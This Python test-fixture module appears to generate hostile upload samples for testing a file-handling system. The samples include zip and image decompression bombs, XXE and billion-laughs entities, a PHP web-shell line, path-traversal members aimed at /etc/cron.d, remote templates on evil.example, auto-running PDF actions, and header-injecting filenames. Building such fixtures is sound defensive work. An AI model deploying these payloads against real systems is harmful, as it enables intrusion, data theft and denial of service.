"""Files made to break, fool or flood whoever opens them, each a few kilobytes.

Every one carries PAYLOAD where the attack would be, so that a test can see whether it was kept.
"""

import gzip
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image, PngImagePlugin

from tests.workplans.files import OLE, locked, with_macros, with_part

PAYLOAD = b"EVIL-PAYLOAD"
SCRIPT = b"<script>/*" + PAYLOAD + b"*/fetch('/plans/')</script>"
PHP = b"<?php /*" + PAYLOAD + b"*/ system($_GET['c']); ?>"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LISTING, WORD, SHEET = "[Content_Types].xml", "word/document.xml", "xl/worksheets/sheet1.xml"
STRINGS, WORD_LINKS = "xl/sharedStrings.xml", "word/_rels/document.xml.rels"
PNG_START = b"\x89PNG\r\n\x1a\n"


# --- Good files to begin with --------------------------------------------------------------------
@cache
def word() -> bytes:
    document = Document()
    document.add_paragraph("কাজ")
    return _saved(document.save)


@cache
def workbook() -> bytes:
    book = Workbook()
    book.worksheets[0]["A1"] = "কাজ"
    return _saved(book.save)


def _saved(save: Callable[[io.BytesIO], object]) -> bytes:
    out = io.BytesIO()
    save(out)
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (8, 8), **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, kind, **options)
    return out.getvalue()


def zipped(parts: Mapping[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def unzipped(office_file: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(office_file)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_parts(office_file: bytes, **parts: bytes) -> bytes:
    return zipped(unzipped(office_file) | parts)


# --- Pictures ------------------------------------------------------------------------------------
def chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png(width: int, height: int, *more: bytes, bits: int = 8, colour: int = 2) -> bytes:
    """A PNG of any claimed size, with a few points only."""
    head = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    points = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return PNG_START + chunk(b"IHDR", head) + b"".join(more) + points + chunk(b"IEND", b"")


def jpeg_with(kind: int, content: bytes) -> bytes:
    """A whole JPEG with a segment of its own: 0xFE a comment, 0xE1 EXIF, 0xE2 a colour profile."""
    whole = picture("JPEG")
    parts = [content[at : at + 60_000] for at in range(0, len(content), 60_000)]
    segments = (b"\xff" + bytes([kind]) + struct.pack(">H", len(one) + 2) + one for one in parts)
    return whole[:2] + b"".join(segments) + whole[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    whole = bytearray(picture("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def flat_bomb(kind: str, size: tuple[int, int]) -> bytes:
    """A real picture of one colour: kilobytes that open to a hundred megabytes and more."""
    return _saved(lambda out: Image.new("1", size).save(out, kind))


def moving(kind: str, frames: int) -> bytes:
    """A picture of many frames, each a little different."""
    first, *others = (Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames))
    return _saved(lambda out: first.save(out, kind, save_all=True, append_images=others))


def png_saying(words: bytes) -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", words.decode())
    return picture("PNG", pnginfo=said)


def webp_claiming(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + size + picture("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- Zips ----------------------------------------------------------------------------------------
def crowd_of_members() -> bytes:
    return zipped(unzipped(word()) | {f"word/media/{n}.txt": b"x" for n in range(5_000)})


def russian_doll() -> bytes:
    inside = zipped({"a.bin": bytes(5_000_000)})
    for _level in range(6):
        inside = zipped({f"{n}.zip": inside for n in range(10)})
    return with_parts(word(), **{"word/embeddings/a.zip": inside})


def lying_about_sizes() -> bytes:
    """The directory says ten bytes, the member unfolds to fifty million."""
    bomb = bytearray(with_parts(word(), **{WORD: bytes(50_000_000)}))
    size = struct.pack("<I", 50_000_000)
    at = bomb.find(size)
    while at >= 0:
        bomb[at : at + 4] = struct.pack("<I", 10)
        at = bomb.find(size, at)
    return bytes(bomb)


def lying_over_one_another() -> bytes:
    """A hundred entries of the directory that all point at one large member."""
    whole = zipped({**unzipped(word()), "word/media/a.bmp": bytes(600_000)})
    start = whole.rfind(b"PK\x01\x02")
    entry, end = whole[start : whole.rfind(b"PK\x05\x06")], bytearray(whole[-22:])
    copies = b"".join(
        entry.replace(b"word/media/a.bmp", f"word/media/{n:05}".encode()) for n in range(100)
    )
    count, size = struct.unpack("<HI", end[10:16])
    end[8:16] = struct.pack("<HHI", count + 100, count + 100, size + len(copies))
    return whole[:-22] + copies + bytes(end)


def listed_twice() -> bytes:
    out = io.BytesIO(word())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(WORD, b"<w:document/>")
    return out.getvalue()


# --- Parts of Office files -----------------------------------------------------------------------
FILE_ENTITY = b"<!DOCTYPE d [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
FAR_ENTITY = b"<!DOCTYPE d SYSTEM 'http://127.0.0.1:9/d.dtd'>"
PARAMETER = b"<!DOCTYPE d [<!ENTITY % a SYSTEM 'http://127.0.0.1:9/d.dtd'> %a;]>"
LAUGHS = (
    b"<!DOCTYPE d [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)


def declared(part: bytes, declaration: bytes, entity: bytes = b"&a;") -> bytes:
    """An XML part with a document type before its first element."""
    head, _, rest = part.rpartition(b"?>") if part.startswith(b"<?xml") else (b"", b"", part)
    rest = rest.replace(b"</", entity + b"</", 1) if entity else rest
    return (head + b"?>" if head else b"") + declaration + rest


def entity_in(office_file: bytes, name: str, declaration: bytes) -> bytes:
    return with_part(office_file, name, lambda part: declared(part, declaration))


def in_another_encoding(encoding: str, label: str) -> bytes:
    part = unzipped(word())[WORD].decode().partition("?>")[2].lstrip()
    text = f'<?xml version="1.0" encoding="{label}"?>' + FILE_ENTITY.decode() + part
    return with_parts(word(), **{WORD: text.encode(encoding, "xmlcharrefreplace")})


def linked(kind: str, target: str, *, external: bool = True, of: bytes | None = None) -> bytes:
    """An Office file that points to something as `kind`."""
    office_file = of or word()
    links = WORD_LINKS if WORD in unzipped(office_file) else "xl/_rels/workbook.xml.rels"
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rId99" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/>'
    return with_part(
        office_file,
        links,
        lambda part: part.replace(b"</Relationships>", link.encode() + b"</Relationships>"),
    )


def carrying(name: str, kind: str) -> bytes:
    return with_parts(linked(kind, name.removeprefix("word/"), external=False), **{name: PAYLOAD})


def excel_with_macros() -> bytes:
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    macros = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return with_part(workbook(), LISTING, lambda part: part.replace(plain, macros))


def sheet_of(cells: str, dimension: str = "A1") -> bytes:
    part = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{cells}</sheetData></worksheet>'
    )
    return with_parts(workbook(), **{SHEET: part.encode()})


# --- PDF -----------------------------------------------------------------------------------------
def pdf(change: Callable[[pikepdf.Pdf], object] | None = None, **options: object) -> bytes:
    with pikepdf.new() as paper:
        paper.add_blank_page()
        if change:
            change(paper)
        return _saved(lambda out: paper.save(out, **options))


def _action(**words: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{key}": value for key, value in words.items()})


def _runs(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = _action(S=pikepdf.Name.JavaScript, JS=PAYLOAD.decode())


def _launches(paper: pikepdf.Pdf) -> None:
    paper.pages[0].AA = _action(O=_action(S=pikepdf.Name.Launch, F=PAYLOAD.decode()))


def _carries(paper: pikepdf.Pdf) -> None:
    paper.attachments["update.exe"] = b"MZ" + PAYLOAD


def _fills_in(paper: pikepdf.Pdf) -> None:
    form = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Stream(paper, PAYLOAD))
    paper.Root.AcroForm = paper.make_indirect(form)


def _unfolds(paper: pikepdf.Pdf) -> None:
    inner = zlib.compress(zlib.compress(bytes(300_000_000), 9), 9)
    stream = pikepdf.Stream(paper, inner)
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    paper.pages[0].Contents = stream


def _goes_round(paper: pikepdf.Pdf) -> None:
    pages = paper.Root.Pages
    pages.Kids.append(pages)


@cache
def pdf_with_data() -> bytes:
    """As our own reports are: figures that go along with the pages."""

    def attach(paper: pikepdf.Pdf) -> None:
        paper.attachments["report.json"] = b"{}"

    return pdf(attach)


# --- All of them ---------------------------------------------------------------------------------
Made = Callable[[], bytes]
FILES: dict[str, tuple[str, Made]] = {
    # Two kinds at once
    "a GIF that is a script": ("ছবি.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;" + PAYLOAD),
    "a JPEG that is PHP": ("ছবি.php.jpg", lambda: jpeg_with(0xFE, PHP)),
    "a JPEG with a page behind it": ("ছবি.html", lambda: picture("JPEG") + SCRIPT),
    "a PNG that says a script": ("ছবি.png", lambda: png_saying(SCRIPT)),
    "a PNG with a zip behind it": ("ছবি.png", lambda: picture("PNG") + zipped({"a": PAYLOAD})),
    "a WebP with a page behind it": ("ছবি.webp", lambda: picture("WEBP") + SCRIPT),
    "a PDF with a page behind it": ("কাগজ.html", lambda: pdf() + SCRIPT),
    "a PDF with a zip behind it": ("কাগজ.pdf", lambda: pdf() + zipped({"a": PAYLOAD})),
    "a page that begins like a PDF": ("কাগজ.pdf", lambda: b"%PDF-1.7\n" + SCRIPT),
    "a Word file that begins like a PDF": ("কাগজ.pdf", lambda: b"%PDF-1.7\n" + word()),
    "a zip that begins like a PNG": ("ছবি.png", lambda: PNG_START + zipped({"a": PAYLOAD})),
    # Another kind than the name says
    "a program as a PDF": ("কাগজ.pdf", lambda: b"MZ\x90\0" + bytes(600) + PAYLOAD),
    "a program as a picture": ("ছবি.png", lambda: b"\x7fELF\x02\x01\x01" + bytes(600) + PAYLOAD),
    "a shell script": ("কাগজ.pdf", lambda: b"#!/bin/sh\n" + PAYLOAD),
    "a drawing with a script": (
        "ছবি.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()">' + SCRIPT + b"</svg>",
    ),
    "a drawing as a picture": (
        "ছবি.png",
        lambda: (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
        ),
    ),
    "a packed drawing": ("ছবি.svgz", lambda: gzip.compress(b"<svg>" + SCRIPT + b"</svg>")),
    "a page after a byte order mark": ("ছবি.png", lambda: b"\xef\xbb\xbf<html>" + SCRIPT),
    "a Java program": ("কাগজ.docx", lambda: zipped({"META-INF/MANIFEST.MF": PAYLOAD})),
    "a text of another office": (
        "কাগজ.docx",
        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}),
    ),
    "a zip that begins like Word": ("কাগজ.docx", lambda: zipped({"word/evil.exe": b"MZ" + PAYLOAD})),
    "an old Word file": ("কাগজ.doc", lambda: OLE + PAYLOAD),
    "a locked Office file": ("কাগজ.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    "a picture of a telephone": (
        "ছবি.heic",
        lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400) + PAYLOAD,
    ),
    "a picture of another telephone": (
        "ছবি.jpg",
        lambda: b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + bytes(400) + PAYLOAD,
    ),
    # Floods of points
    "a PNG of 60,000 by 60,000": ("ছবি.png", lambda: png(60_000, 60_000)),
    "a PNG of two thousand million a side": ("ছবি.png", lambda: png(2**31 - 1, 2**31 - 1)),
    "a PNG of no size": ("ছবি.png", lambda: png(0, 0)),
    "a real PNG of 20,000 by 20,000": ("ছবি.png", lambda: flat_bomb("PNG", (20_000, 20_000))),
    "a JPEG of 65,500 by 65,500": ("ছবি.jpg", lambda: jpeg_claiming(65_500, 65_500)),
    "a WebP of 16,384 by 16,384": ("ছবি.webp", lambda: webp_claiming(16_384, 16_384)),
    "a PNG of a thousand frames": ("ছবি.png", lambda: moving("PNG", 1_000)),
    "a WebP of three hundred frames": ("ছবি.webp", lambda: moving("WEBP", 300)),
    "a PNG whose remark unfolds": (
        "ছবি.png",
        lambda: png(8, 8, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(200_000_000)))),
    ),
    "a PNG whose profile unfolds": (
        "ছবি.png",
        lambda: png(8, 8, chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(200_000_000)))),
    ),
    "a JPEG with two megabytes of remarks": ("ছবি.jpg", lambda: jpeg_with(0xE1, PAYLOAD * 170_000)),
    "a JPEG with a broken profile": (
        "ছবি.jpg",
        lambda: jpeg_with(0xE2, b"ICC_PROFILE\0\x09\x01" + PAYLOAD),
    ),
    "a PNG with a broken part": ("ছবি.png", lambda: picture("PNG").replace(b"IDAT", b"IDAX")),
    "a PNG that ends early": ("ছবি.png", lambda: picture("PNG", (400, 400))[:200]),
    "a JPEG that ends early": ("ছবি.jpg", lambda: picture("JPEG", (400, 400))[:700]),
    "a WebP of nothing": ("ছবি.webp", lambda: b"RIFF\x0c\0\0\0WEBPVP8 "),
    # Zips that unfold
    "a zip of 5,000 members": ("কাগজ.docx", crowd_of_members),
    "a member that unfolds": (
        "কাগজ.docx",
        lambda: with_parts(word(), **{"word/media/a.bmp": bytes(30_000_000)}),
    ),
    "a part that unfolds": (
        "কাগজ.xlsx",
        lambda: with_parts(workbook(), **{STRINGS: bytes(30_000_000)}),
    ),
    "a listing that unfolds": ("কাগজ.docx", lambda: zipped({LISTING: bytes(30_000_000)})),
    "a zip of zips of zips": ("কাগজ.docx", russian_doll),
    "members that lie about their size": ("কাগজ.docx", lying_about_sizes),
    "members that lie over one another": ("কাগজ.docx", lying_over_one_another),
    "a part listed twice": ("কাগজ.docx", listed_twice),
    "a member above its folder": (
        "কাগজ.docx",
        lambda: with_parts(word(), **{"../../../etc/cron.d/evil": PAYLOAD}),
    ),
    "a locked zip": ("কাগজ.docx", lambda: locked(word())),
    "an empty zip": ("কাগজ.docx", lambda: zipped({})),
    "half a zip": ("কাগজ.docx", lambda: word()[: len(word()) // 2]),
    # Document types and entities
    "an entity in a Word text": ("কাগজ.docx", lambda: entity_in(word(), WORD, FILE_ENTITY)),
    "a far document type": ("কাগজ.docx", lambda: entity_in(word(), WORD, FAR_ENTITY)),
    "an entity in the links": ("কাগজ.docx", lambda: entity_in(word(), WORD_LINKS, PARAMETER)),
    "an entity in the listing": ("কাগজ.docx", lambda: entity_in(word(), LISTING, FILE_ENTITY)),
    "an entity in the styles": ("কাগজ.docx", lambda: entity_in(word(), "word/styles.xml", LAUGHS)),
    "an entity in UTF-16": ("কাগজ.docx", lambda: in_another_encoding("utf-16", "UTF-16")),
    "an entity in UTF-7": ("কাগজ.docx", lambda: in_another_encoding("utf-7", "UTF-7")),
    "an entity in UTF-32": ("কাগজ.docx", lambda: in_another_encoding("utf-32-le", "UTF-32")),
    "an entity in EBCDIC": ("কাগজ.docx", lambda: in_another_encoding("cp037", "IBM037")),
    "an entity in a sheet": ("তালিকা.xlsx", lambda: entity_in(workbook(), SHEET, FILE_ENTITY)),
    "a billion laughs": ("তালিকা.xlsx", lambda: entity_in(workbook(), STRINGS, LAUGHS)),
    # Office files that act by themselves
    "macros in Word": ("কাগজ.docx", lambda: with_macros(word())),
    "macros in Excel": ("তালিকা.xlsx", excel_with_macros),
    "macros that nobody mentions": (
        "কাগজ.docx",
        lambda: with_parts(word(), **{"word/vbaProject.bin": OLE + PAYLOAD}),
    ),
    "an object": ("কাগজ.docx", lambda: carrying("word/embeddings/a.bin", "oleObject")),
    "a file inside": ("কাগজ.docx", lambda: carrying("word/embeddings/a.exe", "package")),
    "a control": ("কাগজ.docx", lambda: carrying("word/activeX/a.xml.bin", "control")),
    "a page inside": ("কাগজ.docx", lambda: carrying("word/a.html", "aFChunk")),
    "a far template": (
        "কাগজ.docx",
        lambda: linked("attachedTemplate", "http://evil.example/a.dotm"),
    ),
    "a far picture": ("কাগজ.docx", lambda: linked("image", "http://evil.example/a.png")),
    "a far sheet": (
        "তালিকা.xlsx",
        lambda: linked("externalLinkPath", r"\\evil.example\a.xlsx", of=workbook()),
    ),
    # Sheets that claim much
    "a sheet that claims 16,384 by a million": (
        "তালিকা.xlsx",
        lambda: sheet_of(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>ক</t></is></c></row>', "A1:XFD1048576"
        ),
    ),
    "a cell at the end of the sheet": (
        "তালিকা.xlsx",
        lambda: sheet_of('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    ),
    "a row of no number": ("তালিকা.xlsx", lambda: sheet_of('<row r="99999999999999999999"/>' * 50)),
    "a crowd of words": (
        "তালিকা.xlsx",
        lambda: with_parts(workbook(), **{STRINGS: b"<sst>" + b"<si/>" * 900_000 + b"</sst>"}),
    ),
    # PDF
    "a PDF that runs a program": ("কাগজ.pdf", lambda: pdf(_runs)),
    "a PDF that starts one outside": ("কাগজ.pdf", lambda: pdf(_launches)),
    "a PDF with a program inside": ("কাগজ.pdf", lambda: pdf(_carries)),
    "a PDF form that runs": ("কাগজ.pdf", lambda: pdf(_fills_in)),
    "a PDF that unfolds": ("কাগজ.pdf", lambda: pdf(_unfolds)),
    "a PDF that goes round": ("কাগজ.pdf", lambda: pdf(_goes_round)),
    "a locked PDF": (
        "কাগজ.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    ),
    "half a PDF": ("কাগজ.pdf", lambda: pdf()[:60]),
    "nothing": ("ছবি.png", lambda: b""),
    "two bytes": ("ছবি.jpg", lambda: b"\xff\xd8"),
    "zeroes": ("কাগজ.pdf", lambda: bytes(5_000)),
}
NAMES = {
    "above the folder": "../../../../etc/cron.d/evil.png",
    "above it in Windows": "..\\..\\windows\\evil.png",
    "of a device": "CON.png",
    "turned round": "ছবি\u202egnp.exe",
    "with a header": 'a"\r\nSet-Cookie: a=b\r\n\r\n.png',
    "with markup": '"><script>x()</script>.png',
    "of 300 letters": "ক" * 300 + ".png",
    "of nothing but dots": "...png",
    "with a sign that no text may hold": "ক\0খ.png",
}
